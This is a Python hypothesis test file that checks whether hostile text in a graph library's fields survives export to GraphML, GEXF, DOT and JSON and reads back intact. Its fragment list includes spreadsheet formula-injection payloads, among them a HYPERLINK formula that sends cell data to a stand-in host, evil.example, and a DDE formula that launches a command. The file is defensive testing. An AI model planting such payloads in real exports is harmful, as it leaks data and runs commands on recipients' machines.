"""Hostile graph text through every export, read back by the real consumer:
networkx reads GraphML and GEXF, Graphviz's ``dot -Tsvg`` draws DOT, json reads the
node-link file (issue 12). The CSV round trip is tested with the importer.

Graphs are made through the loader, so the text is what a graph file can hold:
formula prefixes, XML, DOT and Markdown specials, tabs and line breaks in prose,
astral and right-to-left characters, line and paragraph separators.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import xml.etree.ElementTree as ET

import networkx as nx
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from actorgraph.exceptions import GraphFileError
from actorgraph.io.load import parse_graph
from actorgraph.outputs.export import export_text
from conftest import two_actor_data

PIECES = [
    *"=+-@\t\n'\"\\<>&;|`*_[]#$%{}~^!",
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "]]>",
    "<![CDATA[",
    "<!--",
    "&amp;",
    "&#0;",
    "\\N",
    "\\G",
    "\\l",
    "\\n",
    "\\\\",
    '\\"',
    "<b>",
    "</text>",
    "\u2028",
    "\u2029",
    "\u202e",
    "\u200b",
    "\U0001f600",
    "\ufeff",
    "\u00a0",
    " ",
    "  ",
    "x",
    "Ab",
    "é",
]
TEXT = st.lists(st.sampled_from(PIECES), min_size=1, max_size=8).map("".join)
ONE_LINE = TEXT.map(lambda t: t.replace("\n", " ").replace("\t", " "))


@st.composite
def hostile_graphs(draw):
    """A graph file's data with hostile text in every field that holds text."""
    name_a, name_b = draw(st.lists(ONE_LINE, min_size=2, max_size=2, unique=True))
    data = two_actor_data(
        title=draw(ONE_LINE),
        description=draw(TEXT),
        source_title=draw(ONE_LINE),
        url=draw(ONE_LINE),
        name_a=name_a,
        name_b=name_b,
        alias=draw(ONE_LINE),
        actor_description=draw(TEXT),
        note=draw(TEXT),
        claim=draw(TEXT),
    )
    try:
        return parse_graph(json.dumps(data), "hostile.json")
    except GraphFileError:  # blank text, or names that clash: not a graph file
        assume(False)


HYPOTHESIS = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.filter_too_much]
)


@HYPOTHESIS
@given(graph=hostile_graphs(), to=st.sampled_from(["graphml", "gexf"]))
def test_networkx_reads_graphml_and_gexf_as_written(graph, to):
    reader = nx.read_graphml if to == "graphml" else nx.read_gexf
    read = reader(io.BytesIO(export_text(graph, to).encode("utf-8")))
    assert sorted(read.nodes) == ["a", "b"]
    assert read.nodes["a"]["name"] == graph.actor("a").name
    assert read.nodes["a"]["description"] == graph.actor("a").description
    if to == "graphml":  # GEXF keeps no graph attributes
        assert (read.graph["title"], read.graph["description"]) == (graph.title, graph.description)
    ((_, _, edge),) = read.edges(data=True)
    assert edge["note"] == graph.relations[0].note
    assert json.loads(edge["evidence"])[0]["claim"] == graph.relations[0].evidence[0].claim


@HYPOTHESIS
@given(graph=hostile_graphs())
def test_the_node_link_json_reads_as_written(graph):
    data = json.loads(export_text(graph, "json"))
    names = {node["id"]: node["name"] for node in data["nodes"]}
    assert names == {"a": graph.actor("a").name, "b": graph.actor("b").name}


@pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz's dot is not installed")
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
@given(graph=hostile_graphs())
def test_dot_draws_exactly_the_graph_with_its_names(graph):
    drawn = subprocess.run(
        ["dot", "-Tsvg"], input=export_text(graph, "dot").encode(), capture_output=True, check=False
    )
    assert drawn.returncode == 0, drawn.stderr
    assert b"Error" not in drawn.stderr
    svg = ET.fromstring(drawn.stdout)
    ns = {"svg": "http://www.w3.org/2000/svg"}
    nodes = svg.findall(".//svg:g[@class='node']", ns)
    edges = svg.findall(".//svg:g[@class='edge']", ns)
    assert (len(nodes), len(edges)) == (2, 1)
    labels = {
        node.find("svg:title", ns).text: " ".join(
            t.text or "" for t in node.findall("svg:text", ns)
        )
        for node in nodes
    }
    for actor in graph.actors:
        # dot draws a label's text as written, blanks at the ends and runs aside
        assert " ".join(labels[actor.id].split()) == " ".join(actor.name.split())
